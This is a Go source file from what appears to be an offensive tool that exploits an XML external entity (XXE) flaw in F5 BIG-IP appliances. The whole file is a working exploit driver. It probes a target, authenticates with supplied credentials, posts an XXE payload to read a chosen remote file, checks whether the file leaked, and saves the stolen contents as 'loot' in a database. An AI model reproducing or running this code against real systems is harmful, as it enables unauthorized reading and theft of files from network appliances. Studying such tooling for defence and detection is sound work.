package exploit

import (
	"context"
	"errors"
	"fmt"
	"net"
	"net/http"
	"strconv"
	"time"

	"github.com/GhostN3xus/bigipxxe/pkg/auth"
	"github.com/GhostN3xus/bigipxxe/pkg/logging"
	"github.com/GhostN3xus/bigipxxe/pkg/network"
	"github.com/GhostN3xus/bigipxxe/pkg/storage/lootdb"
	"github.com/GhostN3xus/bigipxxe/pkg/xxe"
)

const (
	LootCategory = "f5.bigip.file"
	LootMIMEType = "application/octet-stream"
)

// Target describes one appliance and what to read from it. It is read-only
// for the whole run.
type Target struct {
	Host       string
	Port       int
	SSL        bool
	LoginURI   string
	TargetURI  string
	RemoteFile string
}

// Addr returns host:port.
func (t Target) Addr() string {
	return net.JoinHostPort(t.Host, strconv.Itoa(t.Port))
}

// BaseURL returns scheme://host:port.
func (t Target) BaseURL() string {
	scheme := "http"
	if t.SSL {
		scheme = "https"
	}
	return scheme + "://" + t.Addr()
}

// State is a step of the exploit state machine.
type State int

const (
	StateStart State = iota
	StateProbe
	StateAuthenticate
	StateInject
	StateClassify
	StateStore
	StateDone
)

func (s State) String() string {
	switch s {
	case StateStart:
		return "start"
	case StateProbe:
		return "probe"
	case StateAuthenticate:
		return "authenticate"
	case StateInject:
		return "inject"
	case StateClassify:
		return "classify"
	case StateStore:
		return "store"
	case StateDone:
		return "done"
	default:
		return "unknown"
	}
}

// Attempt carries everything one pass through the state machine produces.
// Nothing in it is shared with other attempts.
type Attempt struct {
	Target     Target
	State      State
	Cookie     auth.SessionCookie
	Entity     string
	Payload    string
	Status     int
	Body       []byte
	Result     xxe.Result
	ArtifactID int64
	LootPath   string
	Err        error
	StartedAt  time.Time
	FinishedAt time.Time
}

func (a *Attempt) Outcome() xxe.Outcome { return a.Result.Outcome }

// LootStore persists leaked bytes and returns the stored record.
type LootStore interface {
	StoreArtifact(ctx context.Context, category, mimeType, host string, data []byte, filename, originalPath string) (*lootdb.Artifact, error)
}

// Driver runs single exploit attempts. It is safe for concurrent use as long
// as its entity generator is.
type Driver struct {
	creds      auth.Credentials
	classifier *xxe.Classifier
	entities   *xxe.EntityGenerator
	store      LootStore
	authOpts   []auth.Option
	logger     *logging.Logger
	now        func() time.Time
}

type DriverOption func(*Driver)

func WithClassifier(c *xxe.Classifier) DriverOption {
	return func(d *Driver) {
		if c != nil {
			d.classifier = c
		}
	}
}

func WithEntityGenerator(g *xxe.EntityGenerator) DriverOption {
	return func(d *Driver) {
		if g != nil {
			d.entities = g
		}
	}
}

// WithLootStore sets where leaked files are stored. Without one, loot is kept
// only on the Attempt.
func WithLootStore(s LootStore) DriverOption {
	return func(d *Driver) { d.store = s }
}

func WithAuthOptions(opts ...auth.Option) DriverOption {
	return func(d *Driver) { d.authOpts = append(d.authOpts, opts...) }
}

func WithDriverLogger(l *logging.Logger) DriverOption {
	return func(d *Driver) {
		if l != nil {
			d.logger = l
		}
	}
}

func NewDriver(creds auth.Credentials, opts ...DriverOption) *Driver {
	d := &Driver{
		creds:      creds,
		classifier: xxe.NewClassifier(),
		entities:   xxe.NewEntityGenerator(),
		logger:     logging.Nop(),
		now:        time.Now,
	}
	for _, opt := range opts {
		opt(d)
	}
	return d
}

type stateFn func(ctx context.Context, a *Attempt) stateFn

// run binds a driver to the sender of one host for one attempt.
type run struct {
	d      *Driver
	sender network.Sender
	logger *logging.Logger
}

// Run executes probe, login, injection and classification against target
// through sender. Every path ends in a terminal outcome; there are no retries.
func (d *Driver) Run(ctx context.Context, sender network.Sender, target Target) *Attempt {
	a := &Attempt{Target: target, State: StateStart, StartedAt: d.now()}
	r := &run{d: d, sender: sender, logger: d.logger.With(logging.Fields{"host": target.Addr()})}

	for state := r.probe; state != nil; {
		state = state(ctx, a)
	}
	a.State = StateDone
	a.FinishedAt = d.now()

	r.report(a)
	return a
}

func (r *run) probe(ctx context.Context, a *Attempt) stateFn {
	a.State = StateProbe
	r.logger.Debug("checking reachability", logging.Fields{"uri": a.Target.TargetURI})

	resp, err := r.sender.Send(ctx, network.Request{Method: http.MethodGet, Path: a.Target.TargetURI})
	if errors.Is(err, network.ErrBodyTooLarge) {
		// the host answered, only the page was too big to keep
		return r.authenticate
	}
	if err != nil || resp == nil {
		return r.fail(a, xxe.OutcomeUnreachable, err)
	}
	return r.authenticate
}

func (r *run) authenticate(ctx context.Context, a *Attempt) stateFn {
	a.State = StateAuthenticate

	cookie, err := auth.New(r.sender, append([]auth.Option{auth.WithLogger(r.logger)}, r.d.authOpts...)...).
		Login(ctx, r.d.creds, a.Target.LoginURI)
	if err != nil {
		return r.fail(a, xxe.OutcomeLoginFailed, err)
	}
	a.Cookie = cookie
	return r.inject
}

func (r *run) inject(ctx context.Context, a *Attempt) stateFn {
	a.State = StateInject
	a.Entity = r.d.entities.Generate()
	a.Payload = xxe.BuildPayload(a.Entity, a.Target.RemoteFile)
	r.logger.Debug("sending payload", logging.Fields{"entity": a.Entity, "remote_file": a.Target.RemoteFile})

	resp, err := r.sender.Send(ctx, network.Request{
		Method:  http.MethodPost,
		Path:    a.Target.TargetURI,
		Headers: http.Header{"Content-Type": {xxe.ContentType}},
		Cookie:  a.Cookie.Header(),
		Body:    []byte(a.Payload),
	})
	if err != nil || resp == nil {
		return r.fail(a, xxe.OutcomeInjectionFailed, err)
	}
	a.Status = resp.StatusCode
	a.Body = resp.Body
	return r.classify
}

func (r *run) classify(_ context.Context, a *Attempt) stateFn {
	a.State = StateClassify
	a.Result = r.d.classifier.Classify(a.Status, a.Body, a.Target.RemoteFile)
	if a.Result.Outcome == xxe.OutcomeLeaked {
		return r.store
	}
	return nil
}

func (r *run) store(ctx context.Context, a *Attempt) stateFn {
	a.State = StateStore
	if r.d.store == nil {
		return nil
	}
	artifact, err := r.d.store.StoreArtifact(ctx, LootCategory, LootMIMEType, a.Target.Host,
		a.Result.Loot, a.Result.Filename, a.Result.SourcePath)
	if err != nil {
		a.Err = fmt.Errorf("exploit: store loot: %w", err)
		r.logger.Error("failed to store loot", logging.Fields{"error": err})
		return nil
	}
	a.ArtifactID = artifact.ID
	a.LootPath = artifact.Path
	return nil
}

func (r *run) fail(a *Attempt, outcome xxe.Outcome, err error) stateFn {
	a.Result = xxe.Result{Outcome: outcome, Detail: outcome.Message()}
	if err != nil {
		a.Err = err
		a.Result.Detail = err.Error()
	}
	return nil
}

func (r *run) report(a *Attempt) {
	fields := logging.Fields{
		"outcome":     a.Outcome().String(),
		"remote_file": a.Target.RemoteFile,
	}
	if a.LootPath != "" {
		fields["loot_path"] = a.LootPath
	}
	if a.Result.Detail != "" {
		fields["detail"] = a.Result.Detail
	}
	switch {
	case a.Outcome() == xxe.OutcomeLeaked:
		r.logger.Info(a.Outcome().Message(), fields)
	case a.Outcome().Failed():
		r.logger.Warn(a.Outcome().Message(), fields)
	default:
		r.logger.Info(a.Outcome().Message(), fields)
	}
}
